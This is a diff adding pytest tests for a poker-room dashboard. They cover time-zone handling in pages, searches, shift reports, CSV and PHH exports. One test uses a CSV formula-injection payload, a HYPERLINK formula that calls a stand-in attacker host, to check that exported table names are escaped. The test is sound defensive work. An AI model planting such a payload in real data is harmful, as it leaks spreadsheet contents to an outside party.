@@ -1,0 +1,126 @@
+"""Issue 34, item 1 — the casino's time zone everywhere on the dashboard: pages, forms, CSV and PHH are in the
+casino's time (the service's ``tz``, Europe/Madrid here, as ``pokertable serve`` takes it by default), with the zone
+named; a time typed without a zone is the casino's; the shift report's default range is the casino's current shift
+(00:00, 08:00, 16:00 local, as the shuffler monitor counts them), never a rolling eight hours.  Also: a name a
+person chose never runs as a formula in the CSV a spreadsheet opens."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import httpx
+import pytest
+
+from domain.shifts import shift_start
+from service.api import commands_pb2 as cmd
+from service.api import table_service_pb2 as svc
+from service.api import types_pb2 as pb
+from service.cli.conventions import show_time
+from tests.support.grpc_support import act, deal, open_circle, start
+from tests.support.web_support import CASINO, Pit, holdem_table, pit_service, sign_in, until
+
+HAND_ROW = re.compile(r'<tr data-table="Mesa 1" data-hand="(\d+)">\s*<td>[^<]*</td><td>\d+</td><td>([^<]+)</td>')
+
+
+@pytest.fixture
+def pit(tmp_path: Path) -> Iterator[Pit]:
+    with pit_service(tmp_path) as running:
+        yield running
+
+
+def one_hand(pit: Pit) -> datetime:
+    """Mesa 1's first hand, over at once (two folds); when it started, as the service stored it."""
+    dealer = holdem_table(pit)
+    start(dealer, "Mesa 1", pb.DECK_COLOUR_RED)
+    deal(dealer, "Mesa 1", "As Kd Qh Ac Kc Qs")
+    for seat in (1, 2):
+        act(dealer, "Mesa 1", fold=cmd.Fold(seat=seat))
+    (hand,) = pit.app.views.search_hands("Mesa 1")
+    return hand.started
+
+
+def listed(http: httpx.Client, **query: str) -> list[tuple[int, str]]:
+    """The hands the disputes search lists: their number and their start as the page shows it."""
+    reply = http.get("/disputes", params={"table": "Mesa 1", **query})
+    assert reply.status_code == 200, reply.text
+    return [(int(number), started) for number, started in HAND_ROW.findall(reply.text)]
+
+
+def test_a_hand_s_start_on_the_dashboard_is_the_command_line_s_and_the_zone_is_named(pit: Pit) -> None:
+    started = one_hand(pit)
+    with httpx.Client(base_url=pit.url) as http:
+        sign_in(http, "pit")
+        until(lambda: bool(listed(http)), "the hand found")
+        assert listed(http) == [(1, show_time(started, CASINO))]  # `pokertable hands` prints the same text
+        page = http.get("/disputes", params={"table": "Mesa 1"}).text
+        assert "Started (Europe/Madrid)" in page and '<span class="zone"' in page
+
+
+def test_a_time_typed_without_a_zone_is_the_casino_s(pit: Pit) -> None:
+    """Half an hour before the hand, on the casino's clock: found.  Read as UTC (an hour behind Madrid in winter,
+    two in summer) it would be after the hand, and the hand would not be found."""
+    started = one_hand(pit)
+    before = (started.astimezone(CASINO) - timedelta(minutes=30)).strftime("%Y-%m-%dT%H:%M")
+    after = (started.astimezone(CASINO) + timedelta(minutes=30)).strftime("%Y-%m-%dT%H:%M")
+    with httpx.Client(base_url=pit.url) as http:
+        sign_in(http, "pit")
+        until(lambda: bool(listed(http)), "the hand found")
+        assert [number for number, _ in listed(http, since=before, until=after)] == [1]
+        assert listed(http, since=after) == []
+        second = started.astimezone(UTC).replace(microsecond=0)  # a zone typed is kept: UTC, read as UTC
+        assert listed(http, until=(second - timedelta(seconds=1)).isoformat()) == []
+        assert [number for number, _ in listed(http, until=(second + timedelta(seconds=1)).isoformat())] == [1]
+
+
+def test_the_shift_report_covers_the_casino_s_current_shift_and_its_csv_says_so(pit: Pit) -> None:
+    one_hand(pit)
+    now = datetime.now(UTC)
+    shift = shift_start(now, CASINO)
+    with httpx.Client(base_url=pit.url) as http:
+        sign_in(http, "pit")
+        page = http.get("/reports/shift")
+        assert page.status_code == 200, page.text
+        heading = re.search(r"<h1>Shift report <small>([^<]+)</small>", page.text)
+        assert heading is not None
+        assert heading.group(1).startswith(shift.strftime("%Y-%m-%d %H:%M") + " – ") and heading.group(1).endswith(
+            " Europe/Madrid")
+        assert f'name="from" value="{shift.strftime("%Y-%m-%dT%H:%M")}"' in page.text
+        until(lambda: 'data-table="Mesa 1"' in http.get("/reports/shift").text, "Mesa 1 in the report")
+        reply = http.get("/reports/shift", params={"from": shift.strftime("%Y-%m-%dT%H:%M"), "format": "csv"})
+        rows = list(csv.reader(io.StringIO(reply.text)))
+        assert rows[0][0] == "from" and rows[0][1] == shift.isoformat(timespec="seconds")
+        assert rows[0][3].endswith(("+01:00", "+02:00"))  # the casino's offset, not UTC's
+        assert 'filename="shift-' + shift.strftime("%Y%m%dT%H%M") in reply.headers["content-disposition"]
+
+
+def test_a_table_s_name_never_runs_as_a_formula_in_the_csv(pit: Pit) -> None:
+    """Attack (issue 34, "also found"): a table opened as ``=HYPERLINK(…)`` is a text in the downloaded CSV."""
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    open_circle(pit.client("pit"), evil, pb.GAME_HOLDEM, blinds=[1, 2])
+    tables = {t.table for t in pit.client("pit").ListTables(svc.ListTablesRequest()).tables}
+    assert evil in tables
+    with httpx.Client(base_url=pit.url) as http:
+        sign_in(http, "pit")
+        until(lambda: "HYPERLINK" in http.get("/reports/shift").text, "the table in the report")
+        text = http.get("/reports/shift", params={"format": "csv"}).text
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert "'" + evil in cells and evil not in cells
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not
+                                                                              cell[1:].isdigit())]
+
+
+def test_a_phh_export_from_the_dashboard_is_in_the_casino_s_time(pit: Pit) -> None:
+    started = one_hand(pit)
+    with httpx.Client(base_url=pit.url) as http:
+        sign_in(http, "pit")
+        reply = http.get("/export/Mesa%201/1.phh")
+        assert reply.status_code == 200, reply.text
+        assert 'time_zone = "Europe/Madrid"' in reply.text
+        local = started.astimezone(CASINO)
+        offset = local.strftime("%z")
+        assert f"time = {local:%H:%M:%S}\n" in reply.text and f'_utc_offset = "{offset[:3]}:{offset[3:]}"' in reply.text
